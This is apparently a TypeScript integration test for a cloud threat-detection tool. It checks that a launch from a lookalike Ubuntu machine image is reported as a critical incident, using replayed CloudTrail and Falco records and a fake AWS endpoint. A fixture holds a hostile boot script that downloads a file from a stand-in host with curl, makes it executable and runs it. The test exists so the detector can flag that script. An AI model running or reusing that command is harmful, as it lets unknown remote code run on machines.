/**
 * A machine of a stranger's image, from the search by name to what it does when it starts: told of the records alone, and with what the
 * cloud says when `watch` may ask it. The cloud is a fake that verifies signatures; the program is the real one, in a process of its own.
 */
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { openFollower } from '../../src/app/follow/follower.ts';
import { EnrichmentGaps } from '../../src/app/follow/enrich-gaps.ts';
import { replayRecords } from '../../src/app/follow/replay.ts';
import { noWatchSettings } from '../../src/app/follow/watch-settings.ts';
import { builtInRulesFolder } from '../../src/app/rule-locations.ts';
import type { Incident } from '../../src/core/incident.ts';
import {
  launchedAccount,
  launchedImage,
  launchedMachine,
  launchRecords,
  machineRecords,
} from '../builders/cloud-launch.ts';
import { startWatch, writeWatch, type WatchedFolder } from '../builders/watched.ts';
import { fakeAwsCredentials, startFakeCloud, type FakeCloud } from '../fakes/cloud.ts';

const root = await mkdtemp(join(tmpdir(), 'tw-cloud-launch-'));
after(() => rm(root, { recursive: true, force: true }));

const name = 'ubuntu/images/hvm-ssd/ubuntu-jammy-22.04-amd64-server-20991231';
const userData =
  '#!/bin/sh\nexport APP_SECRET=do-not-show-this\ncurl -o /tmp/u http://198.51.100.7/u\nchmod +x /tmp/u\n/tmp/u\n';

const files = async (folder: string): Promise<readonly [trail: string, machine: string]> => {
  const paths = [join(folder, 'trail.json'), join(folder, 'falco.json')] as const;
  await writeFile(paths[0], launchRecords());
  await writeFile(paths[1], machineRecords());
  return paths;
};

const replay = async (): Promise<readonly Incident[]> => {
  const [trail, machine] = await files(root);
  const gaps = new EnrichmentGaps(() => 'A replay asks nobody.');
  const follower = await openFollower({
    locations: { builtIn: builtInRulesFolder(), added: [] },
    watch: noWatchSettings,
    verdictOf: () => undefined,
    onEvent: (event) => gaps.see(event),
    gapsOf: (_identity, _verdict, events) => gaps.of(events),
  });
  const incidents: Incident[] = [];
  const sources = [
    { sensor: 'cloudtrail', file: trail },
    { sensor: 'falco', file: machine },
  ];
  for await (const line of replayRecords(sources, follower))
    if (line.type === 'incident') incidents.push(line.incident);
  return incidents;
};

const rulesOf = ({ findings }: Pick<Incident, 'findings'>): readonly string[] => findings.map(({ rule }) => rule);

test('of the records alone: one incident from search to first boot, and a gap for what the cloud was not asked', async () => {
  const [incident, ...others] = await replay();
  assert.deepEqual(others, []);
  assert.ok(incident !== undefined);
  assert.deepEqual(incident.subject, { kind: 'instance', id: launchedMachine });
  assert.deepEqual(
    incident.chain.map(({ step }) => step),
    ['search', 'launch', 'command'],
  );
  for (const rule of ['sigma/name-confusion', 'sigma/launched-unapproved-image', 'sigma/an0692-chain'])
    assert.ok(rulesOf(incident).includes(rule), `${rule} is among ${rulesOf(incident).join()}`);
  assert.deepEqual(
    incident.gaps?.map(({ code, where }) => [code, where]),
    [['CLOUD_NOT_ASKED', `AWS, account ${launchedAccount}`]],
  );
  assert.deepEqual(await replay(), [incident]);
});

type Line = Readonly<Record<string, unknown>>;
type IncidentLine = Pick<Incident, 'severity' | 'subject' | 'chain' | 'findings' | 'gaps'>;

interface Watched {
  readonly lines: readonly Line[];
  readonly incident: IncidentLine;
  readonly output: string;
}

const configure = async (cloud: FakeCloud): Promise<WatchedFolder> => {
  const folder = await mkdtemp(join(root, 'watch-'));
  const [trail, machine] = await files(folder);
  const [id, secret] = [join(folder, 'id'), join(folder, 'secret')];
  await writeFile(id, `${fakeAwsCredentials.id}\n`);
  await writeFile(secret, `${fakeAwsCredentials.secret}\n`);
  return writeWatch(folder, {
    sensors: [
      { sensor: 'cloudtrail', files: [trail] },
      { sensor: 'falco', files: [machine] },
    ],
    enrichment: {
      aws: [
        {
          account: launchedAccount,
          regions: ['eu-central-1'],
          'access-key': { file: id },
          'secret-key': { file: secret },
          endpoint: cloud.url,
        },
      ],
    },
  });
};

/** What the program prints until the last state of the only incident is as it should be; then it is ended. */
const run = async (
  watched: WatchedFolder,
  isDone: (incident: IncidentLine) => boolean,
  end: 'SIGTERM' | 'SIGKILL' = 'SIGTERM',
): Promise<Watched> => {
  const running = startWatch(watched);
  const linesOf = (): readonly Line[] =>
    running
      .output()
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Line);
  try {
    await running.ready;
    const deadline = Date.now() + 120_000;
    for (;;) {
      const lines = linesOf();
      const incident = lines.findLast(({ type }) => type === 'incident') as IncidentLine | undefined;
      if (incident !== undefined && isDone(incident)) return { lines, incident, output: running.output() };
      if (Date.now() > deadline) assert.fail(`it never came: ${running.output()}`);
      await sleep(50);
    }
  } finally {
    running.child.kill(end);
    await running.ended;
  }
};

const watch = async (cloud: FakeCloud, isDone: (incident: IncidentLine) => boolean): Promise<Watched> =>
  run(await configure(cloud), isDone);

const hasSteps = ({ chain }: IncidentLine, steps: readonly string[]): boolean =>
  steps.every((wanted) => chain.some(({ step }) => step === wanted));

const withCloud = async (owner: string, work: (cloud: FakeCloud) => Promise<void>): Promise<void> => {
  await using cloud = await startFakeCloud();
  cloud.images.set(launchedImage, { id: launchedImage, name, owner, created: '2026-02-27T08:00:00.000Z' });
  cloud.machines.set(launchedMachine, { id: launchedMachine, image: launchedImage, userData });
  await work(cloud);
};

test('with the cloud’s answers: whose image it is, how old, and what the machine runs at its start', () =>
  withCloud('999999999999', async (cloud) => {
    const rules = [
      'lookalike-after-search',
      'launched-lookalike-image',
      'launched-young-image',
      'launched-unapproved-image',
      'name-confusion',
      'hostile-user-data',
      'an0692-chain',
    ].map((rule) => `sigma/${rule}`);
    const { incident, output } = await watch(
      cloud,
      (one) =>
        rules.every((rule) => rulesOf(one).includes(rule)) &&
        hasSteps(one, ['search', 'launch', 'user-data', 'command']),
    );
    assert.equal(incident.severity, 'critical');
    assert.deepEqual(incident.subject, { kind: 'instance', id: launchedMachine });
    const told = incident.chain.map(({ step, what }) => `${step}: ${what}`).join('\n');
    assert.match(
      told,
      /launch: As its cloud says, ami-0f00dfeedfacecafe \(ubuntu\/images\/.*\) belongs to 999999999999, came to be on 2026-02-27 and may be used by everybody\./,
    );
    assert.match(
      told,
      /user-data: At its start i-0abcdef0123456789 downloads http:\/\/198\.51\.100\.7\/u to \/tmp\/u; makes it executable; runs it\./,
    );
    assert.equal(incident.gaps, undefined);
    assert.ok(!output.includes('do-not-show-this'), 'no secret is shown');
  }));

test('the publisher’s own image is no stranger’s, and is approved once the cloud says whose it is', () =>
  withCloud('099720109477', async (cloud) => {
    const { lines } = await watch(
      cloud,
      (one) =>
        one.chain.some(({ what }) => what.includes('belongs to 099720109477')) &&
        rulesOf(one).includes('sigma/name-confusion') &&
        hasSteps(one, ['user-data', 'command']),
    );
    const rules = lines.filter(({ type }) => type === 'finding').map(({ rule }) => rule);
    for (const rule of [
      'launched-lookalike-image',
      'launched-young-image',
      'launched-unapproved-image',
      'an0692-suspect-machine',
    ])
      assert.ok(!rules.includes(`sigma/${rule}`), rule);
  }));

test('what may not be asked is a gap of the incident with the permission that is missing', () =>
  withCloud('999999999999', async (cloud) => {
    cloud.denied.add('DescribeInstanceAttribute');
    const { incident, lines } = await watch(cloud, (one) =>
      (one.gaps ?? []).some(({ code }) => code === 'CLOUD_REFUSED'),
    );
    assert.match(
      incident.gaps?.[0]?.reason ?? '',
      /^ec2:DescribeInstanceAttribute is refused: UnauthorizedOperation\./,
    );
    assert.deepEqual(
      lines.filter(({ type }) => type === 'gap').map(({ code }) => code),
      ['CLOUD_REFUSED'],
    );
  }));

test('killed while the cloud was silent, it asks again, and tells the same story', () =>
  withCloud('999999999999', async (cloud) => {
    const watched = await configure(cloud);
    let questions = 0;
    cloud.hostile = () => {
      questions += 1;
    };
    await run(watched, (one) => one.chain.some(({ step }) => step === 'launch') && questions > 0, 'SIGKILL');
    delete cloud.hostile;
    await run(
      watched,
      (one) =>
        rulesOf(one).includes('sigma/lookalike-after-search') &&
        hasSteps(one, ['search', 'launch', 'user-data', 'command']),
    );
  }));
